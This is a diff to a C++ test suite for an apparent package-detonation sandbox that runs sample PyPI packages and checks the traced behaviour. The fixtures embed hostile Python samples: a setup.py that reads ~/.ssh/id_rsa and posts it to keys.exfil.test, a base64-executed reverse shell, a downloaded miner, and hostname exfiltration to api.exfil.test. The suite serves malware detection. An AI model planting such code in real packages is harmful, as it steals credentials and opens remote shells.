@@ -29,10 +29,22 @@ json phase_named(const json& trace, const std::string& name) {
 }
 
 // Events of `kind` in `phase`.
-std::vector<json> events(const json& trace, const std::string& kind, const std::string& phase) {
+// Events of `kind` in `phase`, of the pass `view` names: "" for the package as Linux runs it,
+// "windows" for the Windows view's pass that follows it (PyPI).
+std::vector<json> events(const json& trace, const std::string& kind, const std::string& phase,
+                         const std::string& view = "") {
   std::vector<json> out;
   for (const json& e : trace.at("events")) {
-    if (e.at("kind") == kind && e.at("phase") == phase) out.push_back(e);
+    if (e.at("kind") == kind && e.at("phase") == phase && e.value("view", "") == view) out.push_back(e);
+  }
+  return out;
+}
+
+// The phase records of one pass (see events()).
+std::vector<json> phases_of(const json& trace, const std::string& view = "") {
+  std::vector<json> out;
+  for (const json& p : trace.at("phases")) {
+    if (p.value("view", "") == view) out.push_back(p);
   }
   return out;
 }
@@ -124,8 +136,8 @@ TEST_F(BehaviorReal, a_setup_py_that_reads_the_decoy_key_and_posts_it_is_seen_wi
       " method='POST'), timeout=5)\n"
       "except Exception as e:\n"
       "    print('post failed', e)\n";
-  json t =
-      detonate("pypi", behavior_sdist("keysend", {file("setup.py", behavior_setup_py("keysend", pre)), file("keysend/__init__.py", "")}));
+  json t = detonate("pypi", behavior_sdist("keysend", {file("setup.py", behavior_setup_py("keysend", pre)),
+                                                       file("keysend/__init__.py", "")}));
   ASSERT_TRUE(t.contains("events"));
   auto decoys = events(t, "decoy-open", "install");
   ASSERT_FALSE(decoys.empty()) << t.dump(1);
@@ -179,8 +191,10 @@ TEST_F(BehaviorReal, an_import_that_execs_decoded_text_opening_a_shell_on_a_conn
       "s.sendall(b'hello from ' + os.uname().nodename.encode())\n"
       "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
   const std::string init = "import base64\nexec(base64.b64decode('" + wire::base64_encode(payload) + "'))\n";
-  json t = detonate("pypi", behavior_sdist("revsh", {file("setup.py", behavior_setup_py("revsh", "")), file("revsh/__init__.py", init)}),
-                    "4000");
+  json t = detonate(
+      "pypi",
+      behavior_sdist("revsh", {file("setup.py", behavior_setup_py("revsh", "")), file("revsh/__init__.py", init)}),
+      "4000");
   ASSERT_TRUE(t.contains("events"));
   EXPECT_TRUE(events(t, "connect", "install").empty()) << "nothing connects at install";
   auto connects = events(t, "connect", "import");
@@ -205,8 +219,8 @@ TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_run
   const std::string init =
       "import subprocess, time\n"
       "subprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'], start_new_session=True)\n";
-  json t =
-      detonate("pypi", behavior_sdist("daemon", {file("setup.py", behavior_setup_py("daemon", "")), file("daemon/__init__.py", init)}));
+  json t = detonate("pypi", behavior_sdist("daemon", {file("setup.py", behavior_setup_py("daemon", "")),
+                                                      file("daemon/__init__.py", init)}));
   ASSERT_TRUE(t.contains("phases"));
   EXPECT_EQ(phase_named(t, "import").value("timed_out", true), false);
   auto left = events(t, "left-running", "import");
@@ -215,7 +229,8 @@ TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_run
 
   const std::string forever = "import time\nwhile True:\n    time.sleep(1)\n";
   json u = detonate("pypi",
-                    behavior_sdist("forever", {file("setup.py", behavior_setup_py("forever", "")), file("forever/__init__.py", forever)}),
+                    behavior_sdist("forever", {file("setup.py", behavior_setup_py("forever", "")),
+                                               file("forever/__init__.py", forever)}),
                     "1500");
   ASSERT_TRUE(u.contains("phases"));
   EXPECT_EQ(phase_named(u, "import").value("timed_out", false), true);
@@ -230,7 +245,8 @@ TEST_F(BehaviorReal, a_package_that_floods_the_trace_is_cut_at_its_bound_and_say
       "arg = 'x' * 1000\n"
       "for i in range(400):\n"
       "    subprocess.call(['/usr/bin/env'] + [arg] * 64)\n";
-  json t = detonate("pypi", behavior_sdist("flood", {file("setup.py", behavior_setup_py("flood", "")), file("flood/__init__.py", init)}));
+  json t = detonate("pypi", behavior_sdist("flood", {file("setup.py", behavior_setup_py("flood", "")),
+                                                     file("flood/__init__.py", init)}));
   ASSERT_TRUE(t.contains("events"));
   bool said = false;
   for (const json& e : t.at("events")) {
@@ -251,7 +267,8 @@ TEST_F(BehaviorReal, a_function_that_sends_the_decoy_key_when_called_is_seen_in_
       "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
       "    urllib.request.urlopen('http://keys.exfil.test/u', data=key.encode(), timeout=5)\n";
   const std::string archive = behavior_sdist(
-      "onlywhencalled", {file("setup.py", behavior_setup_py("onlywhencalled", "")), file("onlywhencalled/__init__.py", init)});
+      "onlywhencalled",
+      {file("setup.py", behavior_setup_py("onlywhencalled", "")), file("onlywhencalled/__init__.py", init)});
   json t = detonate("pypi", archive);
   ASSERT_TRUE(t.contains("events"));
   EXPECT_TRUE(events(t, "stream", "import").empty()) << "nothing is sent at import";
@@ -275,7 +292,8 @@ TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_sta
       " '--donate-level', '1'])\n"
       "except OSError as e:\n"
       "    print('run failed', e)\n";
-  json t = detonate("pypi", behavior_sdist("miner", {file("setup.py", behavior_setup_py("miner", pre)), file("miner/__init__.py", "")}));
+  json t = detonate("pypi", behavior_sdist("miner", {file("setup.py", behavior_setup_py("miner", pre)),
+                                                     file("miner/__init__.py", "")}));
   ASSERT_TRUE(t.contains("events"));
   bool fetched = false;
   for (const json& e : events(t, "stream", "install"))
@@ -295,17 +313,22 @@ TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_sta
 TEST_F(BehaviorReal, a_native_package_whose_build_fails_without_a_compiler_does_nothing_the_trace_would_hold) {
   BATLEHUB_NEED_BWRAP();
   json t = detonate(
-      "pypi", behavior_sdist("fastext", {file("setup.py", behavior_setup_py("fastext", "from setuptools import Extension",
-                                                          ", ext_modules=[Extension('fastext._c', "
-                                                          "['fastext/_c.c'])]")),
-                                file("fastext/__init__.py", ""), file("fastext/_c.c", "int f(void) { return 1; }\n")}));
+      "pypi", behavior_sdist("fastext",
+                             {file("setup.py", behavior_setup_py("fastext", "from setuptools import Extension",
+                                                                 ", ext_modules=[Extension('fastext._c', "
+                                                                 "['fastext/_c.c'])]")),
+                              file("fastext/__init__.py", ""), file("fastext/_c.c", "int f(void) { return 1; }\n")}));
   ASSERT_TRUE(t.contains("phases"));
   const json& install = t.at("phases")[1];
   EXPECT_EQ(install.at("phase"), "install");
   EXPECT_NE(install.value("exit_code", 0), 0) << "the build needs a compiler the room does not have";
-  EXPECT_EQ(t.at("phases").size(), 2U) << "nothing was installed, so nothing is imported";
+  EXPECT_EQ(phases_of(t).size(), 2U) << "nothing was installed, so nothing is imported";
+  const auto as_windows = phases_of(t, "windows");
+  ASSERT_EQ(as_windows.size(), 1U) << "the Windows view's install fails the same way: " << t.dump(1);
+  EXPECT_NE(as_windows[0].value("exit_code", 0), 0);
   for (const char* kind : {"decoy-open", "dns", "connect", "stream", "datagram", "write"}) {
     EXPECT_TRUE(events(t, kind, "install").empty()) << kind << ": " << t.dump(1);
+    EXPECT_TRUE(events(t, kind, "install", "windows").empty()) << kind << ": " << t.dump(1);
   }
 }
 
@@ -322,9 +345,8 @@ TEST_F(BehaviorReal, a_key_posted_over_https_by_urllib_requests_and_node_is_read
       "method='POST'), timeout=5)\n"
       "requests.post('https://api.exfil.test/i', json={'host': socket.gethostname(), 'home': "
       "os.path.expanduser('~')}, timeout=5)\n";
-  json t = detonate(
-      "pypi", behavior_sdist("tlssend", {file("setup.py", behavior_setup_py("tlssend", pre)),
-                                         file("tlssend/__init__.py", "")}));
+  json t = detonate("pypi", behavior_sdist("tlssend", {file("setup.py", behavior_setup_py("tlssend", pre)),
+                                                       file("tlssend/__init__.py", "")}));
   ASSERT_TRUE(t.contains("events"));
   std::map<std::string, json> by_host;
   for (const json& e : events(t, "stream", "install")) by_host[e.at("host")] = e;
